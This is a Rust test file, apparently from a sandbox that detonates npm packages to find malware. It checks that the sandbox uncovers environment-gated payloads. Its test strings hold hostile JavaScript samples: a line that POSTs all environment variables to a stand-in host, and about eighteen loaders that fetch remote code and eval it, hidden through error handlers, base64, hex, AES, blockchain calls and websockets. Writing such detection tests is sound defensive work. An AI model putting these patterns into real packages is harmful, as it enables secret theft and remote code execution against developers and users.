//! Gates that open when the right question has another answer.

use stockade_model::{Operation, TreeFile, Trigger};

use super::*;
use crate::detonate::detonate;
use crate::plan::{Entry, Plan, Start};

/// Runs `text` in the worlds, then the variations, until one proves something; its name.
fn opened(text: &str, bases: &[WorldSpec]) -> Option<String> {
    let bytes = text.as_bytes().into();
    let file = TreeFile { path: "index.js".to_owned(), bytes, is_executable: false, reading: 0 };
    let tree = Tree::new(vec![file]);
    let plan = Plan {
        package: "p".to_owned(),
        version: "1.0.0".to_owned(),
        entries: vec![Entry { trigger: Trigger::Import, start: Start::Package }],
    };
    let limits = RunLimits { ticks: 2_000, ..RunLimits::default() };
    let mut explorer = Explorer::new(&tree, &limits);
    let run = |world: &WorldSpec, limits: &RunLimits| {
        let mut seen = Vec::new();
        let end = detonate(&tree, &plan, world, limits, |observation| seen.push(observation));
        (seen, end)
    };
    for world in bases {
        let (seen, end) = run(world, &limits);
        explorer.learn_base(world, &seen, &end);
        if explorer.is_settled() {
            return Some(world.name.clone());
        }
    }
    while let Some(variation) = explorer.next() {
        let (seen, end) = run(&variation.world, &variation.limits);
        explorer.learn(&variation, &seen, &end);
        if explorer.is_settled() {
            return Some(variation.world.name);
        }
    }
    None
}

const SEND: &str = "fetch('https://h.invalid', { method: 'POST', body: JSON.stringify(process.env) })";

fn gate(condition: &str) -> Option<String> {
    opened(
        &format!("const os = require('os'), fs = require('fs');\n{condition} {{ {SEND} }}"),
        &[WorldSpec::linux_ci()],
    )
}

#[test]
fn the_gate_s_answer_is_in_the_name() {
    assert_eq!(
        gate("if (process.env.LANG && process.env.LANG.startsWith('ru_RU'))").as_deref(),
        Some("CI on Linux, `LANG` is `ru_RU`")
    );
    assert_eq!(gate("if (!process.env.CI)").as_deref(), Some("CI on Linux, `CI` is not set"));
    assert_eq!(
        gate("if (fs.existsSync('/opt/licence'))").as_deref(),
        Some("CI on Linux, `/opt/licence` is there")
    );
    assert_eq!(
        gate("if (os.userInfo().username === 'deploy')").as_deref(),
        Some("CI on Linux, the user is `deploy`")
    );
    assert_eq!(
        gate("if (Date.now() > Date.UTC(2026, 8, 1))").as_deref(),
        Some("CI on Linux, the clock starts at 2026-09-03 00:00")
    );
}

#[test]
fn gates_behind_gates_open_too() {
    let name = gate("if (!process.env.CI) if (fs.existsSync('/srv/x')) if (os.cpus().length > 16)").unwrap();
    assert!(name.contains("CI") && name.contains("/srv/x") && name.contains("processors"), "{name}");
    let name = gate("if (!process.env.CI && process.env.DEPLOY_KEY)").unwrap();
    assert!(name.contains("CI") && name.contains("DEPLOY_KEY"), "{name}");
}

#[test]
fn replies_follow_what_was_done_with_them() {
    for text in [
        "require('axios').get('https://h.invalid').catch((e) => new Function('r', e.response.data.cookie)(require))",
        "import('got').then(({ default: got }) => got('https://h.invalid').json().catch(({ response }) => eval(JSON.parse(response.body).message)))",
        "fetch('https://h.invalid').then((r) => r.ok ? 0 : r.json().then((j) => eval(j.token)))",
        "require('https').get('https://h.invalid', (r) => { let d = ''; r.on('data', (c) => d += c).on('end', () => { if (r.statusCode === 404) eval(d) }) })",
        "fetch('https://h.invalid').then((r) => r.text()).then((t) => { if (t.startsWith('OK:')) eval(t.slice(3)) })",
        "fetch('https://h.invalid').then((r) => r.text()).then((t) => eval(t.split('?.?')[1]))",
        "fetch('https://h.invalid').then((r) => r.text()).then((t) => eval(/<!--(.*?)-->/.exec(t)[1]))",
        "fetch('https://h.invalid').then((r) => r.text()).then((t) => eval(t.split('[[')[1].split(']]')[0]))",
        "fetch('https://h.invalid').then((r) => r.text()).then((t) => { if (/^[A-Za-z0-9+/=]+$/.test(t)) eval(Buffer.from(t, 'base64').toString()) })",
        "fetch('https://h.invalid').then((r) => r.json()).then((j) => { if (j.status === 'ok') eval(j.code) })",
        "fetch('https://h.invalid').then((r) => r.json()).then((j) => { if (j.error) return; eval(Buffer.from(j.data.slice(2), 'hex').toString()) })",
        "fetch('https://h.invalid').then((r) => r.text()).then((t) => eval(atob(t)))",
        "fetch('https://h.invalid', { method: 'POST', body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'eth_call', params: [] }) }).then((r) => r.json()).then((j) => eval(Buffer.from(j.result.slice(130), 'hex').toString().replace(/\\0+$/, '')))",
        "const { ethers } = require('ethers'); const c = new ethers.Contract('0x0', [], new ethers.JsonRpcProvider('https://h.invalid')); c.get().then((t) => eval(t))",
        "const s = require('socket.io-client')('https://h.invalid'); s.on('run', (m) => eval(m.code))",
        "const W = require('ws'); new W('wss://h.invalid').on('message', (m) => eval(m.toString()))",
        "require('request')('https://h.invalid', (e, r, b) => { if (!e && b) fetch(b + '/next').then((r) => r.text()).then(eval) })",
        "fetch('https://h.invalid').then((r) => r.text()).then((t) => { const d = require('crypto').createDecipheriv('aes-256-gcm', Buffer.alloc(32), Buffer.alloc(12)); d.setAuthTag(Buffer.alloc(16)); eval(d.update(t, 'hex', 'utf8') + d.final('utf8')) })",
    ] {
        assert!(opened(text, &[WorldSpec::linux_ci()]).is_some(), "{text}");
    }
}

#[test]
fn what_has_nothing_to_hide_is_not_varied() {
    assert_eq!(opened("module.exports = process.env.CI ? 1 : 2", &[WorldSpec::linux_ci()]), None);
    let honest = "const url = process.env.API_URL || 'https://api.invalid'; exports.get = () => fetch(url)";
    assert_eq!(opened(honest, &[WorldSpec::linux_ci()]), None);
}

#[test]
fn a_marker_is_what_settles() {
    let observation = |operation| Observation { operation, ..sample() };
    assert!(is_decisive(&observation(Operation::MarkerRan)));
    assert!(!is_decisive(&observation(Operation::CodeEval)));
}

fn sample() -> Observation {
    Observation {
        sequence: 0,
        world: String::new(),
        trigger: Trigger::Import,
        process: 0,
        operation: Operation::Error,
        subject: String::new(),
        detail: String::new(),
        labels: Vec::new(),
        bytes: None,
        place: None,
        layer: None,
        time_ms: 0,
        is_forced: false,
    }
}
